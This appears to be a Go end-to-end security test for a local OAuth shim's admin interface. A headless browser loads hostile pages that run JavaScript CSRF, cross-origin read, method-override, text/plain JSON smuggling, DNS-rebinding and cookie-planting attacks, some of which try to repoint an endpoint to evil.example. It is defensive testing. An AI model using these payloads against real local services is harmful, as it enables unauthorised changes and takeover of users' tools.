package e2e

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/key2oauth/key2oauth/e2e/testenv"
	"github.com/key2oauth/key2oauth/shim/shimtest"
)

// An attack is a script that a hostile page runs. It may use
//
//	target    the program's origin
//	consent   path of a request that waits for consent, begun by the attacker
//	slug      of an endpoint, which the attacker may know
//	note(s)   tells the attacker's server something
//	form(action, fields, enctype)   sends a form into a frame
//
// and it is over when its promise is. What it notes after "LEAK" is a failure.
type attack struct{ name, script string }

// readable tries to read a response with the owner's cookies.
const readable = `async (path, init) => {
	try {
		const r = await fetch(target + path, {credentials: "include", ...init});
		note((r.type === "opaque" ? "opaque " : "LEAK ") + r.status + " " + (await r.text()).slice(0, 200));
	} catch (e) { note("refused " + e.name); }
}`

var attacks = []attack{
	{"read the admin API", `const read = ` + readable + `; for (const p of ["/api/slugs", "/api/status", "/api/grants", "/"]) await read(p);`},
	{"write with fetch", `const read = ` + readable + `;
		await read("/api/pause", {method: "POST"});
		await read("/api/slugs/" + slug, {method: "DELETE"});
		await read("/api/slugs", {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify({upstream_url: "https://evil.example/mcp"})});`},
	{"write with fetch no-cors", `
		for (const p of ["/api/pause", "/pause", "/api/slugs/" + slug + "/key", consent])
			await fetch(target + p, {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body: '{"upstream_url":"https://evil.example/mcp"}'}).catch(() => {});
		await fetch(target + "/api/slugs", {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({upstream_url: "https://evil.example/mcp"})}).catch(() => {});`},
	{"beacon", `for (const p of ["/api/pause", "/pause", "/sign-out", consent]) navigator.sendBeacon(target + p, new Blob(["action=approve"], {type: "text/plain"}));`},
	{"method override", `
		await form("/api/slugs/" + slug + "?_method=DELETE", {_method: "DELETE"});
		await fetch(target + "/api/slugs/" + slug, {method: "POST", mode: "cors", credentials: "include", headers: {"X-HTTP-Method-Override": "DELETE"}}).then(r => note("LEAK " + r.status), () => note("refused"));`},
	{"form post", `
		await form("/pause", {});
		await form("/sign-out", {});
		await form("/servers", {upstream_url: "https://evil.example/mcp", api_key: "x"});
		await form("/servers/" + slug + "/edit", {upstream_url: "https://evil.example/mcp"});
		await form("/servers/" + slug + "/delete", {});
		await form("/api/pause", {});`},
	{"approve by a form", `
		await form(consent, {action: "approve", api_key: "guessed"});
		await form(consent, {action: "approve", api_key: "guessed", form_token: ""});
		await form(consent, {action: "deny"});
		await form(consent, {unverified: "1", api_key: "guessed"});`},
	{"JSON in a text form", `await form("/api/slugs", {'{"upstream_url":"https://evil.example/mcp","x":"': '"}'}, "text/plain");`},
	{"approve by a picture", `
		for (const p of ["/api/pause", "/pause", consent + "?action=approve&api_key=x", "/open?ticket=x"])
			await new Promise(done => { const i = new Image(); i.onload = () => { note("LEAK picture"); done(); }; i.onerror = done; i.src = target + p; });`},
	{"script and style", `
		for (const p of ["/api/slugs", "/api/status", "/"])
			for (const tag of ["script", "link"])
				await new Promise(done => { const e = document.createElement(tag); e.onload = () => { if (tag === "script") note("LEAK script ran"); done(); }; e.onerror = done;
					if (tag === "script") e.src = target + p; else { e.rel = "stylesheet"; e.href = target + p; } document.head.append(e); setTimeout(done, 1500); });`},
	{"frame", `
		for (const tag of ["iframe", "embed", "object"])
			for (const p of ["/", consent, "/servers/" + slug + "/delete"])
				await new Promise(done => { const e = document.createElement(tag); e.onload = e.onerror = () => { try { if (e.contentDocument && e.contentDocument.body.innerText) note("LEAK " + e.contentDocument.body.innerText); } catch (x) {} done(); };
					if (tag === "object") e.data = target + p; else e.src = target + p; document.body.append(e); setTimeout(done, 1500); });`},
	{"window and postMessage", `
		for (const p of ["/", consent]) {
			const w = window.open(target + p);
			if (!w) { note("no window"); continue; }
			await arrived(w);
			try { note("LEAK " + w.document.body.innerText.slice(0, 100)); } catch (e) { note("refused " + e.name); }
			onmessage = e => note("LEAK message " + JSON.stringify(e.data).slice(0, 100));
			w.postMessage({action: "approve"}, "*");
			await sleep(300);
			try { w.location = target + consent + "?action=approve"; } catch (e) {}
			await sleep(300);
			w.close();
		}`},
	{"event stream and web socket", `
		await new Promise(done => { const s = new EventSource(target + "/api/events", {withCredentials: true}); s.onmessage = s.onopen = e => { note("LEAK events"); s.close(); done(); }; s.onerror = () => { s.close(); done(); }; setTimeout(done, 1500); });
		await new Promise(done => { const s = new WebSocket(target.replace("http", "ws") + "/api/events"); s.onopen = () => { note("LEAK socket"); done(); }; s.onerror = s.onclose = done; setTimeout(done, 1500); });`},
	{"bookmarked one-time link", `await form("/open", {ticket: "guessed"}); await form("/open?ticket=guessed", {});`},
}

// hostile serves the attacker's pages and records what they learn.
type hostile struct {
	mu      sync.Mutex
	notes   map[string][]string
	over    map[string]bool
	addr    string
	attacks []attack
	vars    string // script that defines target and everything else the attacks use
}

func (h *hostile) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	name := r.URL.Query().Get("name")
	switch r.URL.Path {
	case "/note", "/over":
		b, _ := io.ReadAll(r.Body)
		h.mu.Lock()
		defer h.mu.Unlock()
		if r.URL.Path == "/over" {
			h.over[name] = true
		} else {
			h.notes[name] = append(h.notes[name], string(b))
		}
	case "/cookie":
		// A server on another port of 127.0.0.1 shares our cookie jar.
		http.SetCookie(w, &http.Cookie{Name: r.URL.Query().Get("set"), Value: r.URL.Query().Get("value"), Path: "/"})
		http.SetCookie(w, &http.Cookie{Name: r.URL.Query().Get("set"), Value: r.URL.Query().Get("value"), Path: "/consent"})
	case "/attack":
		for _, a := range h.attacks {
			if a.name == name {
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				fmt.Fprintf(w, hostilePage, h.vars, a.name, a.script)
				return
			}
		}
		http.NotFound(w, r)
	default:
		http.NotFound(w, r)
	}
}

const hostilePage = `<!doctype html><title>Free kittens</title><body><h1>Free kittens</h1><script>
%s
const attackName = encodeURIComponent(%q);
const pending = [];
const note = s => pending.push(fetch("/note?name=" + attackName, {method: "POST", body: String(s)}));
const sleep = ms => new Promise(done => setTimeout(done, ms));
// A window is empty and same-origin with its opener until its page arrives.
const arrived = async w => {
	for (let i = 0; i < 1200; i++, await sleep(50)) { try { if (w.location.href !== "about:blank") return; } catch (e) { return; } }
	note("broke: the window stays empty");
};
const form = (action, fields, enctype) => new Promise(done => {
	const frame = document.createElement("iframe"), f = document.createElement("form");
	frame.name = "f" + Math.random();
	f.target = frame.name; f.method = "post"; f.action = target + action;
	if (enctype) f.enctype = enctype;
	for (const [k, v] of Object.entries(fields)) { const i = document.createElement("input"); i.type = "hidden"; i.name = k; i.value = v; f.append(i); }
	document.body.append(frame, f);
	frame.onload = () => done();
	setTimeout(done, 2000);
	f.submit();
});
addEventListener("unhandledrejection", e => note("broke: " + e.reason));
(async () => { %s })().catch(e => note("broke: " + e)).then(async () => { await Promise.allSettled(pending); await fetch("/over?name=" + attackName, {method: "POST"}); });
</script>`

func newHostile(t testing.TB, attacks []attack, vars string) (plain, secure *hostile) {
	t.Helper()
	start := func(useTLS bool) *hostile {
		h := &hostile{notes: make(map[string][]string), over: make(map[string]bool), attacks: attacks, vars: vars}
		srv := httptest.NewUnstartedServer(h)
		srv.TLS = &tls.Config{}
		if useTLS {
			srv.StartTLS()
		} else {
			srv.Start()
		}
		t.Cleanup(func() { srv.CloseClientConnections(); srv.Close() })
		h.addr = srv.Listener.Addr().String()
		return h
	}
	return start(false), start(true)
}

// attack opens a page of origin in another tab of b and waits until the attack
// has finished. It fails the test if the page learned something.
func (h *hostile) attack(t testing.TB, b *chromium, origin string, at attack) *chromium {
	t.Helper()
	tab := b.openTab(t)
	tab.run(chromedp.Navigate(origin + "/attack?name=" + strings.ReplaceAll(at.name, " ", "+")))
	tab.eventually("the attack is over", func() bool {
		h.mu.Lock()
		defer h.mu.Unlock()
		return h.over[at.name]
	})
	h.mu.Lock()
	defer h.mu.Unlock()
	for _, n := range h.notes[at.name] {
		if strings.HasPrefix(n, "LEAK") || strings.HasPrefix(n, "broke") {
			t.Errorf("the page noted %q", n)
		}
	}
	return tab
}

// appState is everything that an attack could change.
func appState(a *app) string {
	var status struct {
		Paused bool `json:"paused"`
	}
	a.api("GET", "/api/status", nil, &status)
	var slugs struct {
		Slugs []json.RawMessage `json:"slugs"`
	}
	a.api("GET", "/api/slugs", nil, &slugs)
	return fmt.Sprintf("paused=%v grants=%d asked=%d endpoints=%s", status.Paused, len(a.grants()), a.asked(), slugs.Slugs)
}

// TestL02AttackPages opens hostile pages in the browser where the owner is
// signed in, from another port of this machine and from a website. The
// website's names resolve to this machine. Otherwise the browser's permission
// prompt for the local network would stop the attack.
func TestL02AttackPages(t *testing.T) {
	testenv.Slow(t)
	t.Parallel()
	up := shimtest.NewUpstream(t, shimtest.Options{})
	a := startApp(t)
	e := a.addEndpoint("Linear", up.URL, up.Key())
	c := oauthClient(t, a, "https://evil.example/callback", e.Local)
	consent := shimtest.NewBrowser(t, a.origin).Open(c.AuthorizeURL()).URL.Path

	plain, secure := newHostile(t, attacks, fmt.Sprintf("const target = %q, consent = %q, slug = %q;", a.origin, consent, e.Slug))
	b := newChromium(t, "evil.example="+secure.addr, "rebound.example="+a.addr)
	b.signIn(a)
	before := appState(a)

	for _, from := range []struct {
		name, origin string
		server       *hostile
	}{
		{"another port", "http://" + plain.addr, plain},
		{"a web site", "https://evil.example", secure},
	} {
		for _, at := range attacks {
			t.Run("L02 "+at.name+" from "+from.name, func(t *testing.T) {
				tab := from.server.attack(t, b, from.origin, at)
				if at.name == "frame" {
					tab.framesAreEmpty(a.origin)
				}
				if after := appState(a); after != before {
					t.Errorf("the attack changed something:\nbefore %s\nafter  %s", before, after)
				}
			})
		}
	}

	t.Run("L02 rebound name", func(t *testing.T) {
		tab := b.openTab(t)
		tab.run(command(page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}))
		_, port, _ := strings.Cut(a.addr, ":")
		tab.run(chromedp.Navigate("http://rebound.example:" + port + "/"))
		for _, path := range []string{"/", "/api/status", "/api/slugs", consent, "/" + e.Slug + "/mcp", "/.well-known/oauth-authorization-server"} {
			status := value(tab, chromedp.Evaluate[int](fmt.Sprintf("fetch(%q).then(r => r.status)", path), chromedp.EvalAwaitPromise))
			if status != http.StatusForbidden && status != http.StatusMisdirectedRequest {
				t.Errorf("GET %s by a rebound name = %d, want 403 or 421", path, status)
			}
		}
	})

	// The attacks fail for the right reason: in the same browser and session, the
	// program's own page can do what they tried.
	t.Run("the owner's own page", func(t *testing.T) {
		b.run(chromedp.Navigate(a.origin+"/"), chromedp.Click(chromedp.CSS(`form[action="/pause"] button`)))
		b.eventually("the program is paused", func() bool { return strings.Contains(appState(a), "paused=true") })
	})
}

// framesAreEmpty fails the test if a frame of the page shows content from
// origin.
func (c *chromium) framesAreEmpty(origin string) {
	c.t.Helper()
	tree := value(c, func(ctx context.Context, t *chromedp.Target) (*page.FrameTree, error) {
		res, err := cdp.Call(ctx, t, page.GetFrameTree, cdp.Empty{})
		return res.FrameTree, err
	})
	for _, f := range tree.ChildFrames {
		if strings.HasPrefix(f.Frame.URL, origin) {
			c.t.Errorf("a frame shows %s", f.Frame.URL)
		}
	}
	// Frames of another site are separate targets. A target's address is only what
	// the frame was meant to show, so read its content.
	targets, err := chromedp.Targets(c.ctx)
	if err != nil {
		c.t.Fatal(err)
	}
	for _, f := range targets {
		if f.Type != "iframe" {
			continue
		}
		ctx, cancel := chromedp.NewContext(c.ctx, chromedp.WithTargetID(f.TargetID), chromedp.WithDetachOnCancel())
		shown, err := chromedp.Run(ctx, chromedp.Location())
		cancel()
		if err != nil {
			c.t.Errorf("a frame for %s cannot be looked at: %v", f.URL, err)
		} else if strings.HasPrefix(shown, origin) {
			c.t.Errorf("a frame shows %s", shown)
		}
	}
}

// TestL04CookiesOfOtherPorts lets another program on 127.0.0.1 plant cookies,
// which are shared between ports, and send a form that matches them.
func TestL04CookiesOfOtherPorts(t *testing.T) {
	testenv.Slow(t)
	t.Parallel()
	up := shimtest.NewUpstream(t, shimtest.Options{})
	a := startApp(t)
	e := a.addEndpoint("Linear", up.URL, up.Key())
	c := oauthClient(t, a, "https://evil.example/callback", e.Local)

	// The attacker opens consent, and gets a cookie and a form token that belong
	// together.
	own := shimtest.NewBrowser(t, a.origin)
	p := own.Open(c.AuthorizeURL())
	form := own.Form(p, p.URL.Path)
	var token string
	for _, f := range form.Fields {
		if f.Name == "form_token" {
			token = f.Value
		}
	}
	cookies := p.Header.Values("Set-Cookie")
	if token == "" || len(cookies) == 0 {
		t.Fatal("the consent page has no form token or sets no cookie")
	}
	name, val, _ := strings.Cut(strings.SplitN(cookies[0], ";", 2)[0], "=")

	plain, _ := newHostile(t, attacks, "")
	b := newChromium(t)
	b.signIn(a)
	before := appState(a)
	origin := "http://" + plain.addr
	b.run(chromedp.Navigate(origin + "/cookie?set=" + name + "&value=" + val))
	value(b, chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`{
		const f = document.createElement("form");
		f.method = "post"; f.action = %q;
		for (const [k, v] of Object.entries({form_token: %q, action: "approve", api_key: %q})) { const i = document.createElement("input"); i.name = k; i.value = v; f.append(i); }
		document.documentElement.append(f); f.submit();
		null
	}`, a.origin+p.URL.Path, token, up.Key())))
	b.eventually("the form was answered", func() bool {
		b.mu.Lock()
		defer b.mu.Unlock()
		for _, got := range b.answers {
			if got.url == a.origin+p.URL.Path {
				return got.status == http.StatusForbidden
			}
		}
		return false
	})
	if after := appState(a); after != before {
		t.Errorf("the form changed something:\nbefore %s\nafter  %s", before, after)
	}

	// The same form is accepted from the browser that it was made for.
	if done := own.Submit(form, map[string]string{"action": "approve", "api_key": up.Key()}); done.Location == "" {
		t.Errorf("the form in its own browser = %d, want a redirect", done.Status)
	}
}
